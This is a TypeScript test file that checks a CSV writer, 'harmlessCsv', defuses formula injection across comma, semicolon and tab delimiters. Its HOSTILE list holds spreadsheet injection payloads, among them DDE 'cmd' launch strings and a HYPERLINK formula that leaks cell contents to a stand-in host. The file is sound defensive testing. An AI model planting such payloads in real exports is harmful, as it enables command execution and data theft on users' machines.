import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { harmlessCsv } from './harmless-csv'

const FORMULA = /^[\t\r\n"]*[=+\-@＝＋－＠]/
/** What a program sees that cuts lines at another delimiter. */
const cellsOf = (text: string, delimiter: string): string[] =>
  Papa.parse<string[]>(text, { delimiter, newline: '\r\n' }).data.flat()

const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://bad.example?"&A1,"x")\nsecond line',
  '@SUM(1)\r\n=2',
  '\n=1+1',
  '\t=1+1',
  '＝1+1',
  'Acme;=1+1',
  "Acme;=cmd|' /C calc'!A0;x",
  'Acme\t=1+1',
  'one\n- cmd|x',
  'Acme;"=1+1',
  'Acme";=1+1;"',
]

describe.each([',', ';', '\t'])('a text file with “%s” between its cells', delimiter => {
  it.each([',', ';', '\t'])('holds no formula for a program that cuts at “%s”', cut => {
    for (const text of HOSTILE) {
      const written = harmlessCsv([['before', text, 'after', -5]], delimiter)
      const formulas = cellsOf(written, cut).filter(cell => FORMULA.test(cell) && Number.isNaN(Number(cell)))
      expect(formulas, JSON.stringify(text)).toEqual([])
    }
  })

  it('keeps every text whole but for apostrophes, and numbers as they are', () => {
    const cells = cellsOf(harmlessCsv([[...HOSTILE, -5]], delimiter), delimiter)
    const without = (text: string) => text.replaceAll("'", '')
    expect(cells.map(without)).toEqual([...HOSTILE.map(without), '-5'])
  })

  it('leaves harmless text as it is', () => {
    const texts = ['Ünal "Örme", A.Ş.', 'a; +33 1 23', 'a - b = c', 'x@y.example', 'one\ntwo', "O'Neil"]
    expect(cellsOf(harmlessCsv([texts], delimiter), delimiter)).toEqual(texts)
  })
})
